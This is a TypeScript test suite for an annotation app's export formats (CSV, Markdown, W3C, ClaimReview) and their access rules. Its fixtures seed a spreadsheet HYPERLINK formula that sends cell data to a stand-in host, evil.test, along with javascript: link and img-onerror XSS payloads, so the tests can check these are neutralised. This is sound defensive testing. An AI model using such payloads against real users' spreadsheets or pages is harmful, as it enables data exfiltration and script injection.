import { parse } from "csv-parse/sync";
import MarkdownIt from "markdown-it";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { claimReviewExportProblems } from "../src/export/claimreview-check.ts";
import { TEST_ORIGIN, type TestApp, TestClient, createTestApp, signUp } from "./support/app.ts";
import { type Member, articleWithMembers } from "./support/article.ts";

let t: TestApp;
let desk: Awaited<ReturnType<typeof articleWithMembers>>;
let author: Member;
let peer: Member;
let moderator: Member;
let viewer: Member;
const ids: Record<string, string> = {};
let secondArticleId = "";

const UNICODE = "Ünïcödé — 東京, «quoted» 🚀";
const INJECTION = "# Title\n[click me](javascript:alert(1)) <img src=x onerror=alert(1)>";

/** A target for the first occurrence of `phrase`, with offsets in code points as the API counts them. */
function targetFor(text: string, phrase: string) {
  const index = text.indexOf(phrase);
  if (index < 0) throw new Error(`phrase not in article: ${phrase}`);
  const start = Array.from(text.slice(0, index)).length;
  const end = start + Array.from(phrase).length;
  return { revision: 1, exact: phrase, prefix: text.slice(Math.max(0, index - 20), index), suffix: text.slice(index + phrase.length, index + phrase.length + 20), start, end };
}

async function create(client: TestClient, articleId: string, body: Record<string, unknown>) {
  const res = await client.post(`/api/articles/${articleId}/annotations`, body);
  if (res.status !== 201) throw new Error(`create failed: ${res.status} ${JSON.stringify(res.body)}`);
  return res.body.id as string;
}

async function exportAs(client: TestClient, format: string, path = `/api/articles/${desk.article.id}/export`) {
  return client.get(`${path}?format=${format}`);
}

beforeAll(async () => {
  t = await createTestApp();
  desk = await articleWithMembers(t.app, ["annotator", "annotator", "moderator", "viewer"]);
  [author, peer, moderator, viewer] = desk.members as [Member, Member, Member, Member];
  const { id: articleId } = desk.article;
  const text = (await desk.owner.get(`/api/articles/${articleId}`)).body.text as string;
  const quote = "The expanding relations between Russia and Iran restrict the West’s abilities";

  ids.comment = await create(author, articleId, {
    kind: "comment",
    body: `=HYPERLINK("http://evil.test/?"&A1,"ok")\nSecond line, with "quotes" and ${UNICODE}`,
    target: targetFor(text, "Russian President visited Iran July 2022"),
    tags: ["context", "+tag"],
  });
  ids.highlight = await create(author, articleId, { kind: "highlight", target: targetFor(text, "Caucasus and Central Asia") });
  ids.injection = await create(author, articleId, { kind: "comment", body: INJECTION });
  ids.published = await create(author, articleId, {
    kind: "factcheck",
    status: "pending",
    body: "Trade figures show the opposite trend.",
    target: targetFor(text, quote),
    factcheck: {
      claim: "Russia-Iran relations restrict the West",
      verdict: "mostly-false",
      confidence: 0.8,
      sources: [{ url: "https://example.org/trade-report", title: "Trade report 2023" }],
    },
  });
  expect((await moderator.post(`/api/annotations/${ids.published}/publish`)).status).toBe(200);
  ids.reply1 = (await peer.post(`/api/annotations/${ids.published}/replies`, { body: "I disagree [see](javascript:void(0))" })).body.id;
  ids.reply2 = (await moderator.post(`/api/annotations/${ids.published}/replies`, { body: "Checked the figures twice." })).body.id;
  expect((await peer.put(`/api/annotations/${ids.published}/vote`, { value: "agree" })).status).toBe(200);
  ids.draft = await create(author, articleId, {
    kind: "factcheck",
    status: "draft",
    factcheck: { claim: "Drones were supplied in 2022", verdict: "true", sources: [] },
  });
  ids.pending = await create(author, articleId, {
    kind: "factcheck",
    status: "pending",
    factcheck: { claim: "A block of aligned countries is forming", verdict: "misleading", sources: [] },
  });
  ids.private = await create(peer, articleId, { kind: "comment", visibility: "private", body: "SECRET-PRIVATE note by peer" });
  ids.hidden = await create(author, articleId, { kind: "comment", body: "SECRET-HIDDEN remark" });
  expect((await moderator.post(`/api/annotations/${ids.hidden}/hide`)).status).toBe(200);

  const second = await desk.owner.post(`/api/groups/${desk.group.id}/articles`, {
    format: "text",
    title: "A second article",
    content: "Second article text about sanctions.\n\nAnother paragraph.",
  });
  secondArticleId = second.body.id;
  ids.second = await create(author, secondArticleId, { kind: "comment", body: "On the second article" });
});
afterAll(async () => {
  await t?.close();
});

const FORMATS = ["w3c", "claimreview", "csv", "markdown"];

describe("article export", () => {
  it("w3c: an AnnotationCollection with the member's annotations", async () => {
    const res = await exportAs(author, "w3c");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("application/ld+json");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="[a-z0-9-]+-\d{4}-\d\d-\d\d\.w3c\.jsonld"; filename\*=UTF-8''[^\s";]+$/);
    const body = res.body;
    expect([body["@context"]].flat()).toContain("http://www.w3.org/ns/anno.jsonld");
    expect([body.type].flat()).toContain("AnnotationCollection");
    const items = (body.items ?? body.first?.items) as { id: string }[];
    expect(Array.isArray(items)).toBe(true);
    const text = JSON.stringify(items);
    for (const key of ["comment", "highlight", "published", "draft", "reply1"]) expect(text).toContain(ids[key]);
    expect(text).not.toContain(ids.second);
  });

  it("claimreview: one ClaimReview for the published fact-check only, field by field", async () => {
    const res = await exportAs(viewer, "claimreview");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("application/ld+json");
    expect(res.body["@context"]).toBe("https://schema.org");
    expect(claimReviewExportProblems(res.body)).toEqual([]);
    const graph = res.body["@graph"] as Record<string, any>[];
    expect(graph).toHaveLength(1);
    const review = graph[0]!;
    const origin = TEST_ORIGIN;
    expect(review["@type"]).toBe("ClaimReview");
    expect(review.url).toBe(`${origin}/articles/${desk.article.id}#annotation=${ids.published}`);
    expect(review.claimReviewed).toBe("Russia-Iran relations restrict the West");
    expect(review.reviewRating).toEqual({ "@type": "Rating", ratingValue: 2, bestRating: 5, worstRating: 1, alternateName: "Mostly false" });
    expect(review.itemReviewed["@type"]).toBe("Claim");
    expect(review.itemReviewed.appearance).toMatchObject({
      "@type": "Article",
      url: expect.stringMatching(new RegExp(`^${origin}/articles/${desk.article.id}#:~:text=[^#]+$`)),
      headline: expect.stringContaining("Russia-Iran"),
    });
    expect(review.author).toEqual({ "@type": "Organization", name: "Desk", url: `${origin}/groups/${desk.group.id}` });
    expect(review.datePublished).toMatch(/^\d{4}-\d\d-\d\d$/);
    expect(review.reviewBody).toBe("Trade figures show the opposite trend.");
    expect(review.citation).toEqual([{ "@type": "CreativeWork", url: "https://example.org/trade-report", name: "Trade report 2023" }]);
    expect(JSON.stringify(res.body)).not.toMatch(/Drones were supplied|block of aligned/);
  });

  it("csv: parses back with one row per visible annotation, injection-safe and Unicode intact", async () => {
    const res = await exportAs(author, "csv");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(/\.csv"; filename\*=UTF-8''[^;]+\.csv$/);
    const rows = parse(res.body as string, { bom: true, columns: true }) as Record<string, string>[];
    // comment, highlight, injection, published, two replies, draft, pending: not the private one, not the hidden one.
    expect(rows.map((r) => r.id).sort()).toEqual(
      [ids.comment, ids.highlight, ids.injection, ids.published, ids.reply1, ids.reply2, ids.draft, ids.pending].sort(),
    );
    const comment = rows.find((r) => r.id === ids.comment)!;
    expect(comment.body).toMatch(/^'=HYPERLINK\(/);
    expect(comment.body).toContain(`\nSecond line, with "quotes" and ${UNICODE}`);
    expect(comment.tags).toBe("context;+tag");
    expect(comment.quote).toBe("Russian President visited Iran July 2022");
    const published = rows.find((r) => r.id === ids.published)!;
    expect(published).toMatchObject({
      kind: "factcheck",
      status: "published",
      verdict: "mostly-false",
      confidence: "0.8",
      sources: "https://example.org/trade-report",
      votes_agree: "1",
      votes_disagree: "0",
      resolved: "false",
      article_id: desk.article.id,
    });
    expect(rows.find((r) => r.id === ids.reply1)!.parent_id).toBe(ids.published);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@]/);
  });

  it("markdown: a report with the claim, verdict, quote, sources and discussion, and no injected structure", async () => {
    const res = await exportAs(author, "markdown");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/markdown; charset=utf-8");
    const md = res.body as string;
    expect(md).toMatch(/^# Fact-check report: /);
    expect(md).toContain("### Russia-Iran relations restrict the West");
    expect(md).toContain("**Verdict:** Mostly false · **Confidence:** 80%");
    expect(md).toContain("> The expanding relations between Russia and Iran restrict the West’s abilities");
    expect(md).toContain("[Trade report 2023](https://example.org/trade-report)");
    expect(md).toContain("Checked the figures twice.");
    expect(md).toMatch(/\*\*moderator member\*\*, \d{4}-\d\d-\d\d \d\d:\d\d UTC/);
    // Published first, then the others marked with their status.
    expect(md.indexOf("restrict the West")).toBeLessThan(md.indexOf("Drones were supplied"));
    expect(md).toMatch(/Drones were supplied in 2022\n\n\*\*Verdict:\*\* True · \*\*Status:\*\* draft/);
    expect(md).toMatch(/\| Mostly false \| 1 \| 1 \|/);
    // The injected heading, links and HTML stay text, even for a renderer that allows raw HTML and any scheme.
    expect(md).toContain("\\# Title");
    expect(md).not.toMatch(/(?<!\\)\]\(javascript:/);
    const renderer = new MarkdownIt({ html: true });
    renderer.validateLink = () => true;
    const html = renderer.render(md);
    expect(html.match(/<h1>/g)).toHaveLength(1);
    expect(html).not.toMatch(/href="javascript/);
    expect(html).not.toContain("<img");
    expect(html).toContain("[click me](javascript:alert(1)) &lt;img");
    expect(html.match(/<a href=/g)).toHaveLength(5);
  });
});

describe("what each member may see", () => {
  it("never exports another member's private annotation, nor a hidden one to a non-moderator", async () => {
    for (const format of FORMATS) {
      for (const member of [author, viewer]) {
        const res = await exportAs(member, format);
        expect(res.status).toBe(200);
        const text = typeof res.body === "string" ? res.body : JSON.stringify(res.body);
        expect(text).not.toContain("SECRET-PRIVATE");
        expect(text).not.toContain("SECRET-HIDDEN");
        expect(text).not.toContain(ids.private);
        expect(text).not.toContain(ids.hidden);
      }
    }
  });

  it("gives moderators the hidden annotation and authors their own private one", async () => {
    const csv = (await exportAs(moderator, "csv")).body as string;
    expect(csv).toContain("SECRET-HIDDEN");
    expect(csv).not.toContain("SECRET-PRIVATE");
    const own = (await exportAs(peer, "markdown")).body as string;
    expect(own).toContain("SECRET-PRIVATE note by peer");
    expect(own).not.toContain("SECRET-HIDDEN");
  });
});

describe("errors", () => {
  it("answers 404 to a non-member, 401 anonymously and 400 naming format", async () => {
    const stranger = await signUp(t.app, "Stranger");
    expect((await exportAs(stranger, "csv")).status).toBe(404);
    expect((await exportAs(stranger, "csv", `/api/groups/${desk.group.id}/export`)).status).toBe(404);
    expect((await exportAs(author, "csv", "/api/articles/not-a-uuid/export")).status).toBe(404);
    expect((await exportAs(new TestClient(t.app), "csv")).status).toBe(401);
    for (const bad of ["pdf", ""]) {
      const res = await exportAs(author, bad);
      expect(res.status).toBe(400);
      expect(res.body.error).toMatchObject({ code: "validation_failed", field: "format" });
    }
    expect((await author.get(`/api/articles/${desk.article.id}/export`)).body.error.field).toBe("format");
  });
});

describe("group export", () => {
  it("is named after a non-Latin group name too, beside an ASCII fallback (RFC 6266)", async () => {
    const created = await desk.owner.post("/api/groups", { name: "Ειδήσεις «Αθήνα»" });
    expect(created.status).toBe(201);
    const res = await desk.owner.get(`/api/groups/${created.body.id}/export?format=markdown`);
    expect(res.status).toBe(200);
    const header = res.headers.get("content-disposition")!;
    expect(header).toMatch(/^attachment; filename="group-\d{4}-\d\d-\d\d\.md"; filename\*=UTF-8''/);
    expect(decodeURIComponent(header.split("filename*=UTF-8''")[1]!)).toMatch(/^Ειδήσεις «Αθήνα»-\d{4}-\d\d-\d\d\.md$/);
  });

  it("covers every article of the group", async () => {
    const csv = await exportAs(author, "csv", `/api/groups/${desk.group.id}/export`);
    expect(csv.status).toBe(200);
    expect(csv.headers.get("content-disposition")).toMatch(/^attachment; filename="desk-/);
    const rows = parse(csv.body as string, { bom: true, columns: true }) as Record<string, string>[];
    expect(new Set(rows.map((r) => r.article_id))).toEqual(new Set([desk.article.id, secondArticleId]));
    expect(rows.find((r) => r.id === ids.second)!.article_title).toBe("A second article");
    expect(rows).toHaveLength(9);

    const md = (await exportAs(author, "markdown", `/api/groups/${desk.group.id}/export`)).body as string;
    expect(md).toMatch(/^# Fact-check report: Desk/);
    expect(md).toContain("## A second article");
    expect(md).toContain("On the second article");

    const w3c = (await exportAs(author, "w3c", `/api/groups/${desk.group.id}/export`)).body;
    const text = JSON.stringify(w3c.items ?? w3c.first?.items);
    expect(text).toContain(ids.second);
    expect(text).toContain(ids.published);

    const reviews = (await exportAs(author, "claimreview", `/api/groups/${desk.group.id}/export`)).body;
    expect(claimReviewExportProblems(reviews)).toEqual([]);
    expect(reviews["@graph"]).toHaveLength(1);
    expect(JSON.stringify(await exportAs(viewer, "markdown", `/api/groups/${desk.group.id}/export`))).not.toMatch(/SECRET/);
  });
});
